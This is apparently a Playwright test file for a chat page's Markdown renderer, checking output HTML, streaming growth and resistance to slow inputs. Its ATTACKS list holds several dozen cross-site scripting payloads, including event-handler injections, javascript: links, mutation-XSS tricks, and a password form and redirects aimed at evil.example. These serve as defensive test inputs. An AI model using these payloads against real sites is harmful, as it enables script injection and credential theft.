"""How the chat page draws Markdown, in a real browser: what it makes of marks; nothing in a reply runs or loads."""

from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from playwright.sync_api import Page

import chatbot.web
from chatbot.web.theme import CSS
from chatbot.web.vendored import mount_vendored, script_tags

SCRIPT = Path(chatbot.web.__file__).parent / "templates" / "chat_markdown.js"
LINK = 'target="_blank" rel="noopener noreferrer nofollow"'
DRAWN = {
    "**bold** and *soft* and `code`": "<p><strong>bold</strong> and <em>soft</em> and <code>code</code></p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "- a\n- b": "<ul><li>a</li><li>b</li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "2) a\n\n3) b": '<ol start="2"><li><p>a</p></li><li><p>b</p></li></ol>',
    "- a\n  - b\n    1. c\n- d": "<ul><li>a<ul><li>b<ol><li>c</li></ol></li></ul></li><li>d</li></ul>",
    "- [x] done\n- [ ] open": "<ul><li>☑ done</li><li>☐ open</li></ul>",
    "```html\n<b>x</b>\n  y\n```": "<pre><code>&lt;b&gt;x&lt;/b&gt;\n  y\n</code></pre>",
    "| a | b |\n|---|--:|\n| 1 | 2 |": '<div class="table"><table><thead><tr><th>a</th>'
    '<th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table></div>',
    "# Title\n\n#### Deep": "<h3>Title</h3><h6>Deep</h6>",
    "> said": "<blockquote><p>said</p></blockquote>",
    "[us](https://a.example/x)": f'<p><a href="https://a.example/x" {LINK}>us</a></p>',
    "**http://a.example**, so": f'<p><strong><a href="http://a.example" {LINK}>http://a.example</a></strong>, so</p>',
    "See https://a.example/x.": f'<p>See <a href="https://a.example/x" {LINK}>https://a.example/x</a>.</p>',
    "(to help@a.example)": f'<p>(to <a href="mailto:help@a.example" {LINK}>help@a.example</a>)</p>',
    "[call](tel:+441)": f'<p><a href="tel:+441" {LINK}>call</a></p>',
    "[form](/returns) and ftp://a.example": "<p>form and ftp://a.example</p>",
    "![map](https://a.example/m.png)": f'<p><a href="https://a.example/m.png" {LINK}>map</a></p>',
    "![](https://a.example/m.png)": f'<p><a href="https://a.example/m.png" {LINK}>https://a.example/m.png</a></p>',
    "Choose:\n-\nor\n---": "<p>Choose:<br>-<br>or</p><hr>",
    "[1]: https://a.example": f'<p>[1]: <a href="https://a.example" {LINK}>https://a.example</a></p>',
    "~£5/~€6, ~~£7~~": "<p>~£5/~€6, <del>£7</del></p>",
    "a < b & c > d": "<p>a &lt; b &amp; c &gt; d</p>",
    "<b>x</b><br>\n<!-- y -->": "<p>&lt;b&gt;x&lt;/b&gt;&lt;br&gt;<br>&lt;!-- y --&gt;</p>",
    "": "",
}
OWN = "window.owned=1"
ATTACKS = [
    f"<script>{OWN}</script>",
    f"</p></div><ScRiPt src=http://evil.example/x.js></sCrIpT><script>{OWN}//",
    f"<img src=x onerror={OWN}>",
    f"<img src='http://evil.example/x.png' onload='{OWN}'>",
    "![x](http://evil.example/x.png)",
    f'![x](x"onerror="{OWN})',
    f"![x](javascript:{OWN})",
    f"[x](javascript:{OWN})",
    f"[x](JaVaScRiPt&colon;{OWN})",
    f"[x](&#106;avascript:{OWN})",
    f"[x](java\tscript:{OWN})",
    f"[x](\x01javascript:{OWN})",
    f"[x](vbscript:{OWN})",
    f"[x](data:text/html,<script>{OWN}</script>)",
    f"<javascript:{OWN}>",
    f'[x](https://a.example "\\" onmouseover={OWN} x=\\"")',
    f'[x](https://a.example/"onmouseover="{OWN})',
    f'<a href="javascript:{OWN}" style="position:fixed;inset:0">x</a>',
    "<iframe src='http://evil.example/'></iframe>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    "<style>@import url(http://evil.example/x.css); body { display: none }</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password><button>Send</button></form>",
    f"<svg onload={OWN}><use href='http://evil.example/x.svg#x'/></svg>",
    f"<svg><style><img src=x onerror={OWN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    f"<template><script>{OWN}</script></template><object data='javascript:{OWN}'></object><embed src=x>",
    f"<details open ontoggle={OWN}>x</details><video src=x onerror={OWN}></video><body onload={OWN}>",
    f"`<img src=x onerror={OWN}>`\n\n```\n</code></pre><img src=x onerror={OWN}>\n```",
    f'```x"><img/src=x/onerror={OWN}>\ny\n```',
    f"| <img src=x onerror={OWN}> |\n|---|\n| <script>{OWN}</script> |",
    f"&lt;img src=x onerror={OWN}&gt; &#60;script&#62;{OWN}&#60;/script&#62;",
    "<div id=talk class=talk name=body>x</div>",
]
DRAW_ALL = """([by, texts]) => texts.flatMap((text) => {
  here.replaceChildren((by === "prose" ? prose : purify.sanitize)(text));
  return [...here.querySelectorAll("*")].flatMap((node) => [node.tagName, ...[...node.attributes].map(
    (one) => one.name === "href" ? one.value.split(":")[0] + ":" : one.name)]).map((found) => [text, found]);
})"""
GROW = """(reply) => [...reply].map((_, end) => {
  here.replaceChildren(prose(settled(reply.slice(0, end + 1))));
  return [here.getBoundingClientRect().height, here.innerText];
})"""
HARMLESS = {
    "P",
    "BR",
    "STRONG",
    "EM",
    "DEL",
    "CODE",
    "PRE",
    "UL",
    "OL",
    "LI",
    "A",
    "H3",
    "H4",
    "H5",
    "H6",
    "BLOCKQUOTE",
    "HR",
}
HARMLESS |= {"DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "class", "start", "align", "target", "rel"}
HARMLESS |= {"http:", "https:", "mailto:", "tel:"}
REPLY = """Standard delivery costs **£4**, and `express` is ~£9. Two ways to ask for it:
- **By mail**: write to help@a.example, [as told here](https://a.example/delivery/a-long-address-that-takes-room)
- By phone:
  1. Call, from **9 to 5** on *working* days
  2. Say your `order number`

## What it costs

| Where to | Days | Price |
|---|--:|---|
| Our islands and the **mainland** | 2 | £4 |
| Elsewhere, see [the list](https://a.example/list) | 5 | £9 |

```python
price = 4 ** 2  # `not` | a table
| nor this
```

3. Third
4. Fourth

---

> Prices may change. ![A map](https://a.example/map.png)"""


@pytest.fixture
def page(visit: Callable[..., Page], serve: Callable[[FastAPI], str]) -> Page:
    app = FastAPI()
    mount_vendored(app)
    html = f"<!doctype html><head>{script_tags()}</head><body><div id=here class=prose-text style='width: 360px'></div>"
    app.get("/", response_class=HTMLResponse)(lambda: html)
    page = visit(serve(app))
    page.add_style_tag(content=CSS)
    page.add_script_tag(content=SCRIPT.read_text(encoding="utf-8"))
    return page


def draw(page: Page, text: str) -> str:
    html: str = page.evaluate("text => (here.replaceChildren(prose(text)), here.innerHTML)", text)
    return html


def harm(page: Page, texts: list[str], by: str = "prose") -> list[list[str]]:
    """What is drawn of these texts that is not on the list of harmless elements and attributes, and what ran."""
    found = [[text, one] for text, one in page.evaluate(DRAW_ALL, [by, texts]) if one not in HARMLESS]
    page.wait_for_timeout(200)
    return found + [["", name] for name in ("owned",) if page.evaluate("window.owned")]


def test_draws_the_marks_that_models_use(page: Page) -> None:
    for text, html in DRAWN.items():
        assert draw(page, text).replace(">\n", ">") == html


def test_nothing_in_a_reply_runs_or_loads(page: Page) -> None:
    wholes = [text for one in ATTACKS for text in (one, f"Well,\n{one}\n\n- {one}\n- **{one}**\n\n> {one}")]
    assert harm(page, [part for text in wholes for part in (text, text[: len(text) // 2])]) == []
    assert page.evaluate("document.querySelectorAll('body > *').length") == 1


@pytest.mark.parametrize("wrapped", ["{}", "<p>{}</p>", "<svg>{}</svg>", "<a href='https://a.example'>{}</a>"])
def test_what_marked_might_let_through_is_cleaned(page: Page, wrapped: str) -> None:
    assert harm(page, [wrapped.format(attack) for attack in ATTACKS], by="purify") == []


def test_only_the_two_libraries_are_global(page: Page) -> None:
    known = """() => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const names = Object.getOwnPropertyNames(frame.contentWindow);
      frame.remove();
      return Object.keys(window).filter((name) => !names.includes(name));
    }"""
    assert set(page.evaluate(known)) - {"prose", "settled"} == {"marked", "DOMPurify"}


def test_a_reply_under_way_only_grows(page: Page) -> None:
    heights, shown = zip(*page.evaluate(GROW, REPLY), strict=True)
    assert [REPLY[:end] for end in range(1, len(REPLY)) if heights[end] < heights[end - 1]] == []
    words = [text.partition("price = 4")[0] for text in shown]
    assert [text for text in words if "](" in text or "**" in text or "`" in text] == []
    draw(page, REPLY)
    assert page.evaluate("here.getBoundingClientRect().height") >= heights[-1]


@pytest.mark.parametrize(
    "text", ["Just words.", "1. a\n2. b", "a **b** c", "```\nx **\n```", "| a |\n|---|\n| b |\n", "4 * 5"]
)
def test_what_is_whole_is_drawn_whole_while_more_comes(page: Page, text: str) -> None:
    begun = draw(page, page.evaluate("text => settled(text)", f"{text}\n\nOn"))
    assert begun.removesuffix("<p>On</p>\n") == draw(page, text)


def test_no_reply_stops_the_page(page: Page) -> None:
    marks = [">", "[", "![", "*a ", "**", "`", "- ", "<a ", "|", "~~", "_a", "#", "(", "a@", "https://a.", "&", "\\"]
    took = "text => { const at = performance.now(); prose(text); prose(settled(text)); return performance.now() - at }"
    for mark in marks:
        assert page.evaluate(took, (mark * 2000)[:2000]) < 2000, mark
    assert draw(page, ">" * 2000) == "&gt;" * 2000
